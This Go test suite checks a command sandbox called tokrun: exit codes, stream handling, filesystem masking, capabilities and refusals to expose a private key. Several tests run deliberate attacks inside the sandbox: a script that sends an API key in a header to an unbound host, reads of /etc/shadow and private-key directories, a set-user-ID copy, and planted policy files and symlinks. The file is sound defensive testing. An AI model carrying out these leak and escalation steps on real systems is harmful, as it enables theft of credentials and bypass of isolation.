package main

import (
	"crypto/sha256"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

func TestExitStatusPassesThrough(t *testing.T) {
	w := newWorld(t)
	for _, tc := range []struct {
		script string
		want   int
	}{
		{"exit 0", 0},
		{"exit 3", 3},
		{"kill -TERM $$", 128 + 15},
		{"kill -KILL $$", 128 + 9},
	} {
		r := w.run("", "--", "/bin/sh", "-c", tc.script)
		if r.code != tc.want {
			t.Errorf("sh -c %q: exit %d, want %d\n%s", tc.script, r.code, tc.want, r)
		}
	}
	r := w.run("", "--", "no-such-command-here")
	if r.code != 127 || !strings.Contains(r.stderr, "no-such-command-here") {
		t.Errorf("a missing command: want exit 127 and its name on stderr, got\n%s", r)
	}
}

func TestStdinPassesThrough(t *testing.T) {
	w := newWorld(t)
	in := strings.Repeat("line of input\n", 50000)
	r := w.run(in, "--", "/bin/sh", "-c", "sha256sum")
	want := fmt.Sprintf("%x", sha256.Sum256([]byte(in)))
	if r.code != 0 || !strings.HasPrefix(r.stdout, want) {
		t.Fatalf("stdin did not arrive whole: want %s\n%s", want, r)
	}
}

// Large outputs on both streams arrive complete and each in order.
func TestLargeOutputCompleteAndOrdered(t *testing.T) {
	w := newWorld(t)
	w.script("out.py", `
import sys
for i in range(200000):
    sys.stdout.write("out %d\n" % i)
    if i % 10 == 0:
        sys.stderr.write("err %d\n" % i)
`)
	r := w.run("", "--", "python3", "out.py")
	if r.code != 0 {
		t.Fatalf("run failed: exit %d, stderr %.500s", r.code, r.stderr)
	}
	check := func(name, text, prefix string, step, n int) {
		lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
		if len(lines) != n {
			t.Fatalf("%s: %d lines, want %d", name, len(lines), n)
		}
		for i, l := range lines {
			if want := fmt.Sprintf("%s %d", prefix, i*step); l != want {
				t.Fatalf("%s line %d = %q, want %q", name, i, l, want)
			}
		}
	}
	check("stdout", r.stdout, "out", 1, 200000)
	check("stderr", r.stderr, "err", 10, 20000)
}

func TestFilesystem(t *testing.T) {
	w := newWorld(t)
	hostTmp, err := os.MkdirTemp("/tmp", "tokrun-host-only-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(hostTmp) })
	script := strings.Join([]string{
		"echo made-inside > result.txt",
		"test -e " + hostTmp + " && echo HOST-TMP-VISIBLE",
		"echo inside > /tmp/inside-only-" + filepath.Base(hostTmp),
		"touch /usr/should-fail 2>/dev/null && echo USR-WRITABLE",
		"touch /etc/should-fail 2>/dev/null && echo ETC-WRITABLE",
		"test -s /etc/shadow && echo SHADOW-READABLE",
		"umount /etc/ssl/private 2>/dev/null && echo MASK-UNMOUNTED",
		"grep ^CapEff: /proc/self/status",
		"pwd",
	}, "; ")
	r := w.run("", "--", "/bin/sh", "-c", script)
	if r.code != 0 {
		t.Fatalf("run failed:\n%s", r)
	}
	for _, bad := range []string{"HOST-TMP-VISIBLE", "USR-WRITABLE", "ETC-WRITABLE", "SHADOW-READABLE", "MASK-UNMOUNTED"} {
		if strings.Contains(r.stdout, bad) {
			t.Errorf("%s:\n%s", bad, r)
		}
	}
	// CAP_KILL, CAP_NET_BIND_SERVICE and CAP_AUDIT_WRITE, and nothing
	// else: with CAP_SYS_ADMIN the command could unmount the masks.
	if !strings.Contains(r.stdout, "CapEff:\t0000000020000420\n") {
		t.Errorf("the command's effective capabilities are not exactly kill, net_bind_service and audit_write:\n%s", r)
	}
	if !strings.Contains(r.stdout, w.project) {
		t.Errorf("the command did not start in the working directory %s:\n%s", w.project, r)
	}
	b, err := os.ReadFile(filepath.Join(w.project, "result.txt"))
	if err != nil || string(b) != "made-inside\n" {
		t.Errorf("a file written in the working directory is not on the host: %q, %v", b, err)
	}
	if _, err := os.Stat("/tmp/inside-only-" + filepath.Base(hostTmp)); err == nil {
		t.Errorf("the sandbox's /tmp is the host's")
	}

	// Writes outside the working directory live in memory and vanish with
	// the run.
	marker := "/root/.tokrun-written-inside-" + filepath.Base(hostTmp)
	if r := w.run("", "--", "/bin/sh", "-c", "echo x > "+marker+" && test -s "+marker); r.code != 0 {
		t.Fatalf("writing under /root inside failed:\n%s", r)
	}
	if _, err := os.Stat(marker); err == nil {
		os.Remove(marker)
		t.Errorf("a write under /root inside reached the host")
	}
	if r := w.run("", "--", "/bin/sh", "-c", "test -e "+marker+" && echo STILL-THERE"); strings.Contains(r.stdout, "STILL-THERE") {
		t.Errorf("a write outside the working directory survived the run")
	}
}

// The private key is never visible: tokrun refuses to run where a mount
// would show it.
func TestRefusesVisibleKey(t *testing.T) {
	w := newWorld(t)
	inProject := filepath.Join(w.project, "key.txt")
	b, _ := os.ReadFile(w.keyFile)
	writeFile(t, inProject, string(b), 0o600)
	// The hint names what to change: where the key is, or the --mount.
	for name, tt := range map[string]struct {
		args []string
		hint string
	}{
		"key in the working directory": {[]string{"--key", inProject}, "tokrun: hint: run tokrun from a directory that does not hold the key"},
		"key under a --mount":          {[]string{"--key", w.keyFile, "--mount", filepath.Dir(w.keyFile) + ":/data:ro"}, "tokrun: hint: leave out the --mount of "},
	} {
		r := w.runRaw("", append([]string{"--policy", w.policy, "--upstream-ca", w.caFile, "--state-dir", w.stateDir}, append(tt.args, "--", "/bin/true")...)...)
		if r.code != 125 || !strings.Contains(r.stderr, "would be visible inside the sandbox") || !strings.Contains(r.stderr, tt.hint) || r.stdout != "" {
			t.Errorf("%s: want exit 125, a refusal and the hint %q, got\n%s", name, tt.hint, r)
		}
	}
}

// A run that cannot start leaves no audit file behind.
func TestFailedStartLeavesNoAuditFile(t *testing.T) {
	w := newWorld(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	audit := filepath.Join(t.TempDir(), "audit.jsonl")
	r := w.run("", "--audit", audit, "--metrics", ln.Addr().String(), "--", "/bin/true")
	if r.code != 125 || !strings.Contains(r.stderr, "--metrics") {
		t.Fatalf("want exit 125 for a metrics address in use, got\n%s", r)
	}
	if _, err := os.Stat(audit); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("the audit file was left: %v", err)
	}
}

// The persistent history of runs (used without --state-dir) may not be
// writable inside: the command could erase its own run from it.
func TestRefusesWritableHistory(t *testing.T) {
	w := newWorld(t)
	if os.Geteuid() != 0 {
		t.Skip("the history's place differs for other users; root's is /var/lib/tokrun")
	}
	for _, stateDir := range [][]string{nil, {"--state-dir", w.stateDir}} { // every check reads it, whatever the state directory
		args := append(append([]string{"--key", w.keyFile, "--policy", w.policy, "--upstream-ca", w.caFile}, stateDir...), "--mount", "/var/lib:/mnt/lib", "--", "/bin/true")
		r := w.runRaw("", args...)
		if r.code != 125 || !strings.Contains(r.stderr, "the history of runs /var/lib/tokrun would be writable inside the sandbox") {
			t.Fatalf("%v: want exit 125 and a refusal, got\n%s", stateDir, r)
		}
	}
}

// The command holds its standard streams and nothing else of init's.
func TestCommandInheritsOnlyStdio(t *testing.T) {
	w := newWorld(t)
	r := w.run("", "--", "/bin/sh", "-c", "ls /proc/$$/fd")
	if r.code != 0 || r.stdout != "0\n1\n2\n" {
		t.Fatalf("the command's descriptors:\n%s", r)
	}
}

// A host mount below the working directory comes into the sandbox with it
// (bind mounts are recursive): one that shows the key's directory is
// refused like the directory itself. The mount is made in a mount
// namespace of the test's own.
func TestRefusesKeyUnderHostSubmount(t *testing.T) {
	w := newWorld(t)
	if os.Geteuid() != 0 {
		t.Skip("mounting needs root")
	}
	unshare, err := exec.LookPath("unshare")
	if err != nil {
		t.Skip("unshare (util-linux) is not installed")
	}
	sub := filepath.Join(w.project, "sub")
	if err := os.Mkdir(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	args := []string{"--key", w.keyFile, "--policy", w.policy, "--upstream-ca", w.caFile, "--state-dir", w.stateDir, "--", "cat", "sub/key.txt"}
	cmd := exec.Command(unshare, append([]string{"-m", "--propagation", "private", "sh", "-c", `mount --bind "$0" "$1" && shift && exec "$@"`,
		filepath.Dir(w.keyFile), sub, tokrunBin}, args...)...)
	cmd.Dir = w.project
	cmd.Env = []string{"PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", "HOME=/root"}
	out, err := cmd.CombinedOutput()
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 125 || !strings.Contains(string(out), "would be visible inside the sandbox at /") || strings.Contains(string(out), "TOKRUN-SECRET-KEY") {
		t.Fatalf("want exit 125 and a refusal, got %v:\n%s", err, out)
	}
}

// A placeholder sent to a host outside its secret's binding ends the run
// with --on-tripwire kill.
func TestTripwireKill(t *testing.T) {
	w := newWorld(t)
	w.script("leak.py", `
import os, time, urllib.request
req = urllib.request.Request("`+w.otherURL("/x")+`", headers={"X-Leak": os.environ["DEMO_API_KEY"]})
try:
    urllib.request.urlopen(req, timeout=30)
except Exception as e:
    print("refused", e, flush=True)
time.sleep(60)
print("STILL RUNNING")
`)
	r := w.run("", "--on-tripwire", "kill", "--", "python3", "leak.py")
	if r.code != 124 || strings.Contains(r.stdout, "STILL RUNNING") {
		t.Fatalf("want exit 124 with the command ended, got\n%s", r)
	}
	if !strings.Contains(r.stderr, "tripwire") {
		t.Errorf("stderr does not say the tripwire ended the run:\n%s", r)
	}
	r = w.run("", "--", "python3", "-c", `
import os, urllib.request
req = urllib.request.Request("`+w.otherURL("/x")+`", headers={"X-Leak": os.environ["DEMO_API_KEY"]})
try:
    urllib.request.urlopen(req, timeout=30)
except Exception as e:
    print("refused", e)
`)
	if r.code != 0 || !strings.Contains(r.stdout, "refused") {
		t.Fatalf("with the default --on-tripwire deny the request is refused and the run goes on:\n%s", r)
	}
}

// A policy in the working directory is read-only inside: the sandbox
// cannot widen the policy of the next run.
func TestPolicyIsReadOnlyInside(t *testing.T) {
	w := newWorld(t)
	b, err := os.ReadFile(w.policy)
	if err != nil {
		t.Fatal(err)
	}
	local := filepath.Join(w.project, "tokrun.yaml")
	writeFile(t, local, string(b), 0o644)
	r := w.runRaw("", "--key", w.keyFile, "--upstream-ca", w.caFile, "--state-dir", w.stateDir, "--", "/bin/sh", "-c",
		"cat tokrun.yaml >/dev/null && echo readable; echo '# widened' >> tokrun.yaml && echo WRITABLE; echo ok > other.txt && echo project-writable")
	if r.code != 0 || !strings.Contains(r.stdout, "readable") || strings.Contains(r.stdout, "WRITABLE") || !strings.Contains(r.stdout, "project-writable") {
		t.Fatalf("want the policy readable but not writable, the project writable:\n%s", r)
	}
	if after, _ := os.ReadFile(local); string(after) != string(b) {
		t.Fatalf("the sandbox changed the policy file")
	}
}

func TestDoctor(t *testing.T) {
	w := newWorld(t)
	r := w.runRaw("", "doctor", "--state-dir", w.stateDir)
	if r.code != 0 || !strings.Contains(r.stdout, "ok    sandbox") || !strings.Contains(r.stdout, "tokrun can run sandboxes here") {
		t.Fatalf("doctor as root:\n%s", r)
	}
	// A machine where the sandbox cannot start: the state directory is a file.
	bad := filepath.Join(t.TempDir(), "file")
	writeFile(t, bad, "", 0o600)
	r = w.runRaw("", "doctor", "--state-dir", bad)
	if r.code != 1 || !strings.Contains(r.stdout, "FAIL") || !strings.Contains(r.stdout, "tokrun cannot run sandboxes here") {
		t.Fatalf("doctor with an unusable state directory:\n%s", r)
	}
}

// Run as root in someone else's project, the command runs as the
// project's owner and group, and cannot gain privileges: what it creates
// there is the owner's, a set-user-ID or set-group-ID file it makes gives
// no one root, and root-only host files stay closed.
func TestCommandRunsAsProjectOwner(t *testing.T) {
	w := newWorld(t)
	if err := os.Chown(w.project, nobody, nobody); err != nil {
		t.Fatal(err)
	}
	r := w.run("", "--", "/bin/sh", "-c", `id -u; id -g; echo "home=$HOME"; grep ^NoNewPrivs: /proc/self/status; cp /usr/bin/id ./suid_id && chmod 6755 suid_id; test -s /etc/shadow && echo SHADOW-READABLE; ls /etc/ssl/private/ 2>/dev/null | grep . && echo PRIVATE-LISTED; touch "$HOME/x" && echo home-writable`)
	if r.code != 0 {
		t.Fatalf("run failed:\n%s", r)
	}
	if !strings.HasPrefix(r.stdout, "65534\n65534\nhome=/home/tokrun\n") || !strings.Contains(r.stdout, "home-writable") {
		t.Errorf("the command does not run as the project's owner and group with a home of its own:\n%s", r)
	}
	// No set-user-ID file, its own or the host's, gives it more.
	if !strings.Contains(r.stdout, "NoNewPrivs:\t1\n") {
		t.Errorf("the command may gain privileges:\n%s", r)
	}
	for _, bad := range []string{"SHADOW-READABLE", "PRIVATE-LISTED"} {
		if strings.Contains(r.stdout, bad) {
			t.Errorf("%s:\n%s", bad, r)
		}
	}
	st, err := os.Stat(filepath.Join(w.project, "suid_id"))
	if err != nil {
		t.Fatalf("the command could not write its project: %v\n%s", err, r)
	}
	if sys := st.Sys().(*syscall.Stat_t); sys.Uid != nobody || sys.Gid != nobody {
		t.Errorf("a set-user-ID and set-group-ID file the command made is owned by %d:%d, not the project's owner %d:%d", sys.Uid, sys.Gid, nobody, nobody)
	}
}

// A directory on the way to the policy, swapped in by a sandboxed command
// (moving a directory leaves the change times of the files in it alone),
// makes the policy refused too, naming the directory to review.
func TestPolicySwappedInByARunIsRefused(t *testing.T) {
	w := newWorld(t)
	b, err := os.ReadFile(w.policy)
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{"conf", "examples"} {
		if err := os.Mkdir(filepath.Join(w.project, d), 0o755); err != nil {
			t.Fatal(err)
		}
		writeFile(t, filepath.Join(w.project, d, "p.yaml"), string(b), 0o644)
	}
	time.Sleep(1100 * time.Millisecond) // change times are compared in whole seconds
	args := []string{"--key", w.keyFile, "--upstream-ca", w.caFile, "--state-dir", w.stateDir, "--policy", "conf/p.yaml", "--"}
	if r := w.runRaw("", append(args, "/bin/sh", "-c", "mv conf conf.orig && mv examples conf")...); r.code != 0 {
		t.Fatalf("run failed:\n%s", r)
	}
	r := w.runRaw("", append(args, "/bin/true")...)
	if r.code != 125 || !strings.Contains(r.stderr, "conf/p.yaml was changed on its way ("+filepath.Join(w.project, "conf")+") during an earlier sandboxed run") ||
		!strings.Contains(r.stderr, "touch -h "+filepath.Join(w.project, "conf")) {
		t.Fatalf("a policy in a swapped directory: want a refusal, got\n%s", r)
	}
}

// A policy symlink that a sandboxed command planted is refused; the hint
// touches the link, not what it points to.
func TestPolicySymlinkPlantedByARunIsRefused(t *testing.T) {
	w := newWorld(t)
	b, err := os.ReadFile(w.policy)
	if err != nil {
		t.Fatal(err)
	}
	target := filepath.Join(w.project, "target.yaml")
	writeFile(t, target, string(b), 0o644)
	before, err := os.Stat(target)
	if err != nil {
		t.Fatal(err)
	}
	time.Sleep(1100 * time.Millisecond) // change times are compared in whole seconds
	args := []string{"--key", w.keyFile, "--upstream-ca", w.caFile, "--state-dir", w.stateDir, "--"}
	if r := w.runRaw("", append(args, "/bin/sh", "-c", "ln -s target.yaml tokrun.yaml")...); r.code != 0 {
		t.Fatalf("run failed:\n%s", r)
	}
	link := filepath.Join(w.project, "tokrun.yaml")
	r := w.runRaw("", append(args, "/bin/true")...)
	if r.code != 125 || !strings.Contains(r.stderr, "run: touch -h "+link+",") {
		t.Fatalf("a planted symlink: want a refusal whose hint touches the link, got\n%s", r)
	}
	time.Sleep(10 * time.Millisecond)
	if out, err := exec.Command("touch", "-h", link).CombinedOutput(); err != nil {
		t.Fatalf("touch -h: %v %s", err, out)
	}
	if r = w.runRaw("", append(args, "/bin/true")...); r.code != 0 {
		t.Fatalf("after touch -h:\n%s", r)
	}
	if after, err := os.Stat(target); err != nil || !after.ModTime().Equal(before.ModTime()) {
		t.Errorf("the link's target changed: %v", err)
	}
}

// A policy that a sandboxed command wrote for the next run is refused
// until someone saves it again.
func TestPolicyPlantedByARunIsRefused(t *testing.T) {
	w := newWorld(t)
	b, err := os.ReadFile(w.policy)
	if err != nil {
		t.Fatal(err)
	}
	// The sandbox writes ./tokrun.yaml, which the next run would load.
	writeFile(t, filepath.Join(w.project, "planted.txt"), string(b), 0o644)
	r := w.runRaw("", "--key", w.keyFile, "--state-dir", w.stateDir, "--", "/bin/sh", "-c", "cp planted.txt tokrun.yaml")
	if r.code != 0 {
		t.Fatalf("run failed:\n%s", r)
	}
	r = w.runRaw("", "--key", w.keyFile, "--upstream-ca", w.caFile, "--state-dir", w.stateDir, "--", "/bin/true")
	if r.code != 125 || !strings.Contains(r.stderr, "tokrun.yaml was changed during an earlier sandboxed run") || !strings.Contains(r.stderr, "hint: review it") {
		t.Fatalf("a planted policy: want a refusal, got\n%s", r)
	}
	// Reviewed and saved again, it is used.
	time.Sleep(10 * time.Millisecond)
	if err := os.Chmod(filepath.Join(w.project, "tokrun.yaml"), 0o644); err != nil {
		t.Fatal(err)
	}
	if r = w.runRaw("", "--key", w.keyFile, "--upstream-ca", w.caFile, "--state-dir", w.stateDir, "--", "/bin/true"); r.code != 0 {
		t.Fatalf("after review:\n%s", r)
	}
}
